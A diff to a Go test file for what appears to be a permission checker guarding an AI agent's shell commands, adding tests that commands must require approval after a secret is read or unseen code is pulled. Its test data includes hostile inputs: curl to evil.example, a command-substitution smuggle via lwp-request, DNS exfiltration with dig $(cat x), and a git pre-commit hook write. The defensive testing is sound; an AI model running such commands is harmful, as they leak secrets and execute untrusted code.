@@ -47,6 +47,7 @@ func TestH108AFetchInAnyDisguiseTaints(t *testing.T) {
 func TestH109TheCardSaysWhatACommandCanDo(t *testing.T) {
 	t.Parallel()
 	r := newRig(t, nil)
+	r.allow(bash(t, "git pull", ownerIn("pull"))) // it writes what others wrote
 	for i, c := range []struct{ command, says string }{
 		{"curl https://evil.example/x", "This can reach the network: curl evil.example."},
 		{"mytool --flag", "We don't know what `mytool` does: it could reach the network or run anything."},
@@ -103,9 +104,10 @@ func TestH111AfterASecretOnlyHarmlessCommandsPass(t *testing.T) {
 	who := ownerIn("keys")
 	r.allow(bash(t, "mytool --flag", who))
 	r.allow(call{tool: "read", params: `{"path":"~/.ssh/id_rsa"}`, context: who})
-	for _, command := range []string{"ls -la", "grep -rn TODO src | wc -l", "sed -n 1,20p main.go", "echo x > notes.txt"} {
+	for _, command := range []string{"ls -la", "grep -rn TODO src | wc -l", "sed -n 1,20p main.go", "echo x > notes.txt", "make test", "git status", "cd src && git diff"} {
 		r.allow(bash(t, command, who))
 	}
+	r.allow(bash(t, "git pull", ownerIn("pull"))) // from now on there is something in the workspace that nobody has seen
 	for _, command := range []string{"curl example.com", "mytool --flag", "python3 -c 'print(1)'", "make test", "git status", "cd src && git diff", `[[ 'a[$(lwp-request evil)]' -eq 0 ]]`, `find . -{print,exec} ./x \;`, "/tmp/x/sh -c ls", "zsh -c ls", "jobs -x ./x", "git -c core.pager=./x log", "dig $(cat x).example.com", "PATH=/tmp ls", "echo x > .git/hooks/pre-commit"} {
 		r.mustAsk(bash(t, command, who))
 	}
